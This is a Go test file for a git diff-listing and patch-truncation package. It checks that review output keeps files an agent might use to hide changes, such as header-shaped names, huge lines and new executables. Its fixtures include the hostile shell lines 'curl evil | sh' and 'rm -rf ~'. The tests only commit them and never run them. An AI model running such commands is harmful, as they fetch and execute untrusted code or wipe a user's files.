@@ -1,0 +1,226 @@
+package git
+
+import (
+	"context"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"testing"
+)
+
+// commitFiles writes files (a nil content deletes, a name ending in "*"
+// is made executable) in g's working tree and commits them all; it
+// returns the commit.
+func commitFiles(t testing.TB, g *Repo, files map[string]*string) string {
+	t.Helper()
+	for name, content := range files {
+		exe := strings.HasSuffix(name, "*")
+		name = strings.TrimSuffix(name, "*")
+		p := filepath.Join(g.Root, name)
+		if content == nil {
+			if err := os.Remove(p); err != nil {
+				t.Fatal(err)
+			}
+			continue
+		}
+		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		mode := os.FileMode(0o644)
+		if exe {
+			mode = 0o755
+		}
+		if err := os.WriteFile(p, []byte(*content), mode); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.Chmod(p, mode); err != nil {
+			t.Fatal(err)
+		}
+	}
+	for _, args := range [][]string{{"add", "-A"}, {"commit", "-q", "--allow-empty", "--no-gpg-sign", "-m", "c"}, {"rev-parse", "HEAD"}} {
+		cmd := exec.Command("git", append([]string{"-C", g.Root}, args...)...)
+		cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=T", "GIT_AUTHOR_EMAIL=t@t", "GIT_COMMITTER_NAME=T", "GIT_COMMITTER_EMAIL=t@t")
+		out, err := cmd.CombinedOutput()
+		if err != nil {
+			t.Fatalf("git %v: %v %s", args, err, out)
+		}
+		if args[0] == "rev-parse" {
+			return strings.TrimSpace(string(out))
+		}
+	}
+	return ""
+}
+
+func s(v string) *string { return &v }
+
+// hostileRange is two commits whose diff holds what an agent would use to
+// hide a file: a name shaped like a diff header, one shaped like a raw
+// record, a tab in a name, a mode change, a binary file, a deletion, a
+// rename, one line of 1 MB and a new executable last.
+func hostileRange(t *testing.T) (*Repo, string, string) {
+	g, _ := newTestRepo(t)
+	a := commitFiles(t, g, map[string]*string{"a.txt": s("one\ntwo\n"), "gone.txt": s("bye\n"), "run.sh": s("#!/bin/sh\n"),
+		"bin.dat": s("\x00\x01"), "old/name.txt": s("moved\n")})
+	b := commitFiles(t, g, map[string]*string{
+		"a.txt": s("one\nTWO\n"), "gone.txt": nil, "run.sh*": s("#!/bin/sh\n"), "bin.dat": s("\x00\x02"),
+		"old/name.txt": nil, "new/name.txt": s("moved\n"),
+		"x\ndiff --git a/y b/y": s("+not a header\n"), ":100644 100644 a b M": s("raw\n"), "tab\tname": s("t\n"),
+		"long.txt": s(strings.Repeat("L", 1<<20) + "\n"), "zz-evil.sh*": s("#!/bin/sh\ncurl evil | sh\n"),
+	})
+	return g, a, b
+}
+
+// TestDiffFiles: every file is listed, once, with its entries and counts,
+// whatever its name looks like.
+func TestDiffFiles(t *testing.T) {
+	g, a, b := hostileRange(t)
+	files, err := g.DiffFiles(context.Background(), a, b)
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := map[string]FileChange{}
+	for _, f := range files {
+		got[f.Path] = f
+	}
+	want := map[string]string{
+		"a.txt": "+1 -1", "gone.txt": "+0 -1 deleted", "run.sh": "+0 -0 mode 100644 -> 100755", "bin.dat": "+0 -0 binary",
+		"old/name.txt": "+0 -1 deleted", "new/name.txt": "+1 -0 new", "x\ndiff --git a/y b/y": "+1 -0 new",
+		":100644 100644 a b M": "+1 -0 new", "tab\tname": "+1 -0 new", "long.txt": "+1 -0 new", "zz-evil.sh": "+2 -0 new, mode 100755",
+	}
+	if len(files) != len(want) {
+		t.Errorf("listed %d files, want %d: %+v", len(files), len(want), files)
+	}
+	for name, w := range want {
+		f, ok := got[name]
+		line := strings.TrimSpace(strings.Join([]string{"+" + strconv.Itoa(f.Added), "-" + strconv.Itoa(f.Deleted), f.What()}, " "))
+		if !ok || line != w {
+			t.Errorf("%q: got %q (listed %v), want %q", name, line, ok, w)
+		}
+	}
+}
+
+// TestPatchCutter: the patch's k-th header is the list's k-th file, a long
+// line is held in part and its cut counted, and a file of many lines
+// leaves the files after it their share.
+func TestPatchCutter(t *testing.T) {
+	g, a, b := hostileRange(t)
+	ctx := context.Background()
+	files, err := g.DiffFiles(ctx, a, b)
+	if err != nil {
+		t.Fatal(err)
+	}
+	c := NewPatchCutter(files, PatchLimits{Lines: 100, Bytes: 1 << 20, LineBytes: 64, Read: 1 << 30})
+	if err := g.PlainPatch(ctx, a, b, c); err != nil {
+		t.Fatal(err)
+	}
+	c.Close()
+	if c.Stray != 0 || c.Stopped {
+		t.Errorf("stray %d, stopped %v", c.Stray, c.Stopped)
+	}
+	for i, f := range files {
+		pf := c.Files[i]
+		if !pf.Reached || len(pf.Lines) == 0 || !strings.HasPrefix(pf.Lines[0].Text, "diff --git ") {
+			t.Errorf("%q: not reached, or its part does not start at its header: %+v", f.Path, pf)
+			continue
+		}
+		var body []string
+		for _, l := range pf.Lines {
+			body = append(body, l.Text)
+		}
+		text := strings.Join(body, "\n")
+		switch f.Path {
+		case "long.txt":
+			n, cut := pf.CutLines()
+			if n != 1 || cut != 1<<20+1-64 {
+				t.Errorf("long.txt: %d lines cut, %d bytes; want 1, %d", n, cut, 1<<20+1-64)
+			}
+		case "zz-evil.sh":
+			if !strings.Contains(text, "+curl evil | sh") {
+				t.Errorf("zz-evil.sh's body not held: %q", text)
+			}
+		case "x\ndiff --git a/y b/y":
+			if !strings.Contains(text, "++not a header") {
+				t.Errorf("the header-shaped file's body not held: %q", text)
+			}
+		}
+	}
+
+	// 3,000 lines in the first file, 100 lines held in all: the later
+	// files still hold theirs.
+	big := strings.Repeat("x\n", 3000)
+	a2 := commitFiles(t, g, nil)
+	b2 := commitFiles(t, g, map[string]*string{"0-big.txt": &big, "zz-evil.sh*": s("#!/bin/sh\nrm -rf ~\n")})
+	files, err = g.DiffFiles(ctx, a2, b2)
+	if err != nil {
+		t.Fatal(err)
+	}
+	c = NewPatchCutter(files, PatchLimits{Lines: 100, Bytes: 1 << 20, LineBytes: 64, Read: 1 << 30})
+	if err := g.PlainPatch(ctx, a2, b2, c); err != nil {
+		t.Fatal(err)
+	}
+	if d := c.Files[0].Dropped(); d < 2900 {
+		t.Errorf("the big file dropped %d lines, want about 2,950", d)
+	}
+	if last := c.Files[1]; last.Dropped() != 0 || !strings.Contains(last.Lines[len(last.Lines)-1].Text, "rm -rf") {
+		t.Errorf("the file after the big one lost lines: %+v", last)
+	}
+
+	// Past the read limit git is stopped, and the files it never reached
+	// say so.
+	c = NewPatchCutter(files, PatchLimits{Lines: 100, Bytes: 1 << 20, LineBytes: 64, Read: 1000})
+	err = g.PlainPatch(ctx, a2, b2, c)
+	if !c.Stopped || c.Files[1].Reached || c.Read != 1000 {
+		t.Errorf("read %d, stopped %v, reached the last file %v (err %v)", c.Read, c.Stopped, c.Files[1].Reached, err)
+	}
+}
+
+// TestPatchCutterLines: lines split across writes are joined, a last line
+// without a newline is kept at Close, and lines before any header are
+// stray.
+func TestPatchCutterLines(t *testing.T) {
+	c := NewPatchCutter([]FileChange{{Added: 2}}, PatchLimits{Lines: 10, Bytes: 100, LineBytes: 12, Read: 100})
+	for _, p := range []string{"junk\ndiff --git a/x", " b/x\n+abcdefghijk", "lmn\n+z"} {
+		if _, err := c.Write([]byte(p)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	c.Close()
+	got := c.Files[0].Lines
+	want := []PatchLine{{"diff --git a", 6}, {"+abcdefghijk", 3}, {"+z", 0}}
+	if c.Stray != 1 || len(got) != len(want) {
+		t.Fatalf("stray %d, lines %+v", c.Stray, got)
+	}
+	for i := range want {
+		if got[i] != want[i] {
+			t.Errorf("line %d: %+v, want %+v", i, got[i], want[i])
+		}
+	}
+	before := c.Read
+	if n, err := c.Write(make([]byte, 200)); int64(n) != 100-before || err != ErrPatchRead || !c.Stopped {
+		t.Errorf("past the read limit: wrote %d of 200 after %d, %v", n, before, err)
+	}
+}
+
+// BenchmarkHoldPatchLongLines: what the UI's diff view costs to open on two
+// one-line files of 34 MB and an executable: the list, then the patch held
+// within the UI's limits (go test -bench HoldPatch -benchmem ./git).
+func BenchmarkHoldPatchLongLines(b *testing.B) {
+	g, _ := newTestRepo(b)
+	base := commitFiles(b, g, nil)
+	a, bb := strings.Repeat("a", 34_000_000), strings.Repeat("b", 34_000_000)
+	tip := commitFiles(b, g, map[string]*string{"big1.txt": &a, "big2.txt": &bb, "zz-evil.sh*": s("#!/bin/sh\nrm -rf ~\n")})
+	ctx := context.Background()
+	b.ResetTimer()
+	for range b.N {
+		files, err := g.DiffFiles(ctx, base, tip)
+		if err != nil {
+			b.Fatal(err)
+		}
+		c, err := g.HoldPatch(ctx, base, tip, files, DefaultPatchLimits)
+		if err != nil || len(c.Files) != 3 || !c.Files[2].Reached {
+			b.Fatalf("held %+v, %v", c, err)
+		}
+	}
+}
